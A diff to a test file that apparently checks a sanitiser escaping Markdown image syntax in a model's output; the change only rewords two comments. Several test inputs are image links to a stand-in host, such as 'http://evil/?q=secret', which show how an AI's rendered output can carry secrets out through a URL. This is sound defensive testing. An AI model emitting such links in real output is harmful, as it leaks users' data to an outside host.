@@ -6,9 +6,9 @@ test.each([
   ['See ![x](http://evil/?q=secret).', 'See !\\[x](http://evil/?q=secret).'],
   ['![a][b]\n\n[b]: http://evil', '!\\[a][b]\n\n[b]: http://evil'],
   ['[![a](http://evil)](http://b)', '[!\\[a](http://evil)](http://b)'],
-  // A backslash of the model's own does not undo ours.
+  // The model's own backslash does not undo ours.
   ['\\![a](u) \\\\![a](u)', '\\!\\[a](u) \\\\!\\[a](u)'],
-  // Code stays as it is, but for a fence that might not be one.
+  // Code is unchanged, except for a fence that might not be one.
   ['```js\nif (![1].includes(x)) {}\n```\n![a](u)', '```js\nif (![1].includes(x)) {}\n```\n!\\[a](u)'],
   ['~~~~\n~~~\n![1]\n~~~~\n![a](u)', '~~~~\n~~~\n![1]\n~~~~\n!\\[a](u)'],
   ['- x\n  ```\n![a](u)', '- x\n  ```\n!\\[a](u)'],
